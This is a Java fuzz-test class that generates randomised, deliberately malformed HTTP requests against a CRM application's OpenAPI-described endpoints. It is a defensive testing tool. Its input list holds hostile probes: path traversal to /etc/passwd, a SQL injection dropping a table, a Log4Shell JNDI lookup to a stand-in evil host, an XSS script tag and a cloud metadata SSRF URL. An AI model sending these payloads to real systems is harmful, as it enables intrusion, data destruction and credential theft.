package com.meocrm.app;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.meocrm.adapter.http.OpenApiDocument;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.jspecify.annotations.Nullable;

/**
 * Makes requests out of the OpenAPI document: its examples, changed in one to three places, with
 * hostile paths, queries, headers and bodies. The same seed makes the same requests.
 */
final class FuzzRequests {
  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

  /** Half characters stay what they are when everything beyond ASCII is escaped. */
  private static final JsonMapper MAPPER =
      JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "a",
          "ord_001",
          "TEA-1",
          "\u0000",
          "\ud800",
          "a\nb",
          "Trà sữa 🍵",
          "\u202egnp",
          "../../etc/passwd",
          "'; drop table meocrm.sales_order; --",
          "${jndi:ldap://evil.example/x}",
          "<script>alert(1)</script>",
          "-1",
          "1e400",
          "0.001",
          "99999999999999999999.99",
          "2025-11-11T05:00:00.000Z",
          "2025-99-99T25:61:61Z",
          "+999999999-12-31T23:59:59Z",
          "9999-12-31",
          "30d",
          "tenant",
          "branch:br_01",
          "https://partner.example/hooks",
          "http://169.254.169.254/latest/meta-data",
          "whsec_AAAA",
          "order.*",
          "null",
          "x".repeat(65),
          "y".repeat(5_000));

  private static final List<String> TYPES =
      List.of(
          "text/plain",
          "application/xml",
          "application/json; charset=utf-16",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=x",
          "application/json;q=x");

  private final OpenApiDocument document;
  private final Random random;

  FuzzRequests(OpenApiDocument document, long seed) {
    this.document = document;
    this.random = new Random(seed);
  }

  /**
   * One request.
   *
   * @param contentType null: none
   * @param body empty: none
   */
  @SuppressWarnings("ArrayRecordComponent") // written once
  record Fuzzed(
      String method,
      String pathAndQuery,
      @Nullable String contentType,
      byte[] body,
      List<String> headers) {
    @Override
    public String toString() {
      var text = new String(body, StandardCharsets.UTF_8);
      return "%s %s %s %s %s"
          .formatted(
              method,
              pathAndQuery,
              contentType,
              headers,
              text.length() > 2_000 ? text.substring(0, 2_000) + "…" : text);
    }
  }

  /**
   * A request to an operation such as {@code POST /api/v1/orders}.
   *
   * @param ids of things that exist
   */
  Fuzzed next(String operation, List<String> ids) {
    var method = operation.substring(0, operation.indexOf(' '));
    var template = operation.substring(operation.indexOf(' ') + 1);
    var described = document.operation(method, template);
    var content = described.path("requestBody").path("content").path("application/json");
    var path = path(template, ids) + query(described);
    if (method.equals("GET")) {
      return new Fuzzed(method, path, null, new byte[0], headers());
    }
    var body = content.isMissingNode() ? emptyBody() : body(content);
    var type = body.length == 0 ? null : chance(0.04) ? pick(TYPES) : "application/json";
    return new Fuzzed(method, path, type, body, headers());
  }

  private String path(String template, List<String> ids) {
    var path = new StringBuilder();
    for (var part : template.split("/", -1)) {
      if (!part.isEmpty()) {
        path.append('/').append(part.replaceAll("\\{[^}]+}", "{}"));
      }
    }
    int gap;
    while ((gap = path.indexOf("{}")) >= 0) {
      var value =
          !ids.isEmpty() && chance(0.5)
              ? ids.get(random.nextInt(ids.size()))
              : chance(0.2) ? "tax.vatPercent" : encoded(notEmpty(pick(TEXTS)));
      path.replace(gap, gap + 2, value);
    }
    return path.toString();
  }

  private static String notEmpty(String text) {
    return text.isEmpty() ? "-" : text;
  }

  private String query(JsonNode described) {
    var pairs = new ArrayList<String>();
    for (var reference : described.path("parameters")) {
      var parameter = document.resolve(reference);
      if (parameter.path("in").asText().equals("query") && chance(0.6)) {
        pairs.add(parameter.path("name").asText() + "=" + queryValue(parameter));
      }
    }
    if (chance(0.05)) {
      pairs.add("unknown=1");
    }
    if (chance(0.03)) {
      pairs.add("limit=%ff");
    }
    return pairs.isEmpty() ? "" : "?" + String.join("&", pairs);
  }

  private String queryValue(JsonNode parameter) {
    if (parameter.path("name").asText().equals("wait")) {
      return pick(List.of("0", "-1", "x", "99999")); // waiting is what it is for
    }
    var schema = document.resolve(parameter.path("schema"));
    if (schema.has("enum") && chance(0.5)) {
      return encoded(schema.path("enum").get(random.nextInt(schema.path("enum").size())).asText());
    }
    return chance(0.4)
        ? pick(List.of("0", "1", "100", "101", "-1", "9223372036854775807", "1e9"))
        : encoded(pick(TEXTS));
  }

  private List<String> headers() {
    var headers = new ArrayList<String>();
    if (chance(0.2)) {
      headers.addAll(List.of("Accept-Language", pick(List.of("vi", "en;q=0.1,vi", ";;;", "*"))));
    }
    if (chance(0.1)) {
      headers.addAll(List.of("If-Match", pick(List.of("*", "\"1\"", "\"2\"", "W/\"1\"", "x"))));
    }
    if (chance(0.15)) {
      headers.addAll(
          List.of(
              "Idempotency-Key",
              pick(List.of("k" + random.nextInt(20), "\"quoted\"", "\"open", "z".repeat(256)))));
    }
    if (chance(0.1)) {
      headers.addAll(List.of("traceparent", pick(List.of("00-0-0-0", "x".repeat(500)))));
    }
    return headers;
  }

  private byte[] emptyBody() {
    return chance(0.7)
        ? new byte[0]
        : pick(List.of("{}", "{\"a\":1}", "[]", "{")).getBytes(StandardCharsets.UTF_8);
  }

  private byte[] body(JsonNode content) {
    var base = example(content);
    if (chance(0.15)) {
      return hostile(text(base));
    }
    var changed = base;
    for (int i = random.nextInt(4); i > 0; i--) {
      changed = changed(changed, 0);
    }
    return text(changed).getBytes(StandardCharsets.UTF_8);
  }

  /** An example of the document, or a bare object where it has none. */
  private JsonNode example(JsonNode content) {
    if (content.has("example")) {
      return content.path("example").deepCopy();
    }
    var examples =
        content.path("examples").valueStream().map(document::resolve).map(e -> e.path("value"));
    var all = examples.toList();
    return all.isEmpty() ? JSON.objectNode() : all.get(random.nextInt(all.size())).deepCopy();
  }

  /** The same with one place of it changed. */
  private JsonNode changed(JsonNode node, int depth) {
    if (node instanceof ObjectNode object && !object.isEmpty() && !chance(0.05)) {
      var names = new ArrayList<String>();
      object.fieldNames().forEachRemaining(names::add);
      var name = names.get(random.nextInt(names.size()));
      if (chance(0.15)) {
        object.remove(name);
      } else if (chance(0.1)) {
        object.set(chance(0.5) ? "unknown" : pick(TEXTS), value());
      } else {
        object.set(name, changed(object.path(name), depth + 1));
      }
      return object;
    }
    if (node instanceof ArrayNode array && !array.isEmpty() && chance(0.8)) {
      int index = random.nextInt(array.size());
      if (chance(0.1)) {
        for (int i = 0; i < 300; i++) {
          array.add(array.get(index).deepCopy());
        }
      } else {
        array.set(index, changed(array.get(index), depth + 1));
      }
      return array;
    }
    return value();
  }

  private JsonNode value() {
    return switch (random.nextInt(12)) {
      case 0 -> JSON.nullNode();
      case 1 -> JSON.booleanNode(random.nextBoolean());
      case 2 -> JSON.numberNode(random.nextInt());
      case 3 -> JSON.numberNode(random.nextLong());
      case 4 -> JSON.numberNode(pick(List.of(0, 1, -1, 100, 101, Integer.MAX_VALUE)));
      case 5 ->
          JSON.numberNode(new BigDecimal(pick(List.of("1e300", "-1e-300", "0.0000001", "1E+99"))));
      case 6 -> JSON.numberNode(BigInteger.TEN.pow(30));
      case 7 -> JSON.arrayNode().add(pick(TEXTS)).add(1);
      case 8 -> JSON.objectNode().put(pick(TEXTS), pick(TEXTS));
      case 9 -> nested(random.nextInt(80));
      default -> JSON.textNode(pick(TEXTS));
    };
  }

  private static JsonNode nested(int depth) {
    JsonNode node = JSON.textNode("deep");
    for (int i = 0; i < depth; i++) {
      node = JSON.arrayNode().add(node);
    }
    return node;
  }

  /** What is no JSON, or not as it should be. */
  private byte[] hostile(String json) {
    return switch (random.nextInt(8)) {
      case 0 -> new byte[0];
      case 1 -> json.substring(0, random.nextInt(json.length())).getBytes(StandardCharsets.UTF_8);
      case 2 -> (json + json).getBytes(StandardCharsets.UTF_8);
      case 3 -> "[".repeat(20_000).getBytes(StandardCharsets.UTF_8);
      case 4 -> ("{\"a\":" + "9".repeat(5_000) + "}").getBytes(StandardCharsets.UTF_8);
      case 5 -> "{\"id\":\"a\",\"id\":\"b\"}".getBytes(StandardCharsets.UTF_8);
      case 6 -> flipped(json.getBytes(StandardCharsets.UTF_8));
      default -> noise();
    };
  }

  private byte[] flipped(byte[] bytes) {
    if (bytes.length > 0) {
      bytes[random.nextInt(bytes.length)] = (byte) (0x80 | random.nextInt(0x80));
    }
    return bytes;
  }

  private byte[] noise() {
    var bytes = new byte[random.nextInt(200)];
    random.nextBytes(bytes);
    return bytes;
  }

  private static String text(JsonNode json) {
    try {
      return MAPPER.writeValueAsString(json);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private boolean chance(double of) {
    return random.nextDouble() < of;
  }

  private <T> T pick(List<T> choices) {
    return choices.get(random.nextInt(choices.size()));
  }
}
